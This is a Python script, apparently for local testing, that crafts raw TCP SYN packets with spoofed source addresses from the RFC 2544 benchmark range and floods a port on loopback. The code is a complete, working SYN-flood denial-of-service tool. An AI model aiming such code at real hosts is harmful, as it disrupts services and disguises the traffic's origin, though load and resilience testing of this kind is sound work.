"""Sends SYNs that nobody stands behind: syn_flood.py PORT COUNT, to loopback, each from another address and port."""

from __future__ import annotations

import socket
import struct
import sys
from collections.abc import Iterator

SOURCES = "198.18.0.0/15"
"""Where they say that they come from (RFC 2544)."""

_TARGET = "127.0.0.1"
_SYN = 0x02


def syns(port: int, count: int) -> Iterator[bytes]:
    """So many different ones, each an IPv4 packet."""
    base = struct.unpack("!I", socket.inet_aton(SOURCES.partition("/")[0]))[0]
    target = socket.inet_aton(_TARGET)
    for number in range(count):
        source = struct.pack("!I", base + 1 + number % 0x1FFFD)
        # A TCP segment with no options
        tcp = struct.pack("!HHIIBBHHH", 1024 + number % 60000, port, number, 0, 5 << 4, _SYN, 65535, 0, 0)
        pseudo = source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0) + source + target
        yield ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:] + tcp


def _checksum(data: bytes) -> int:
    """RFC 1071; of an even number of bytes."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main() -> None:
    """Send them as fast as they are made."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for packet in syns(int(sys.argv[1]), int(sys.argv[2])):
            raw.sendto(packet, (_TARGET, 0))


if __name__ == "__main__":
    main()
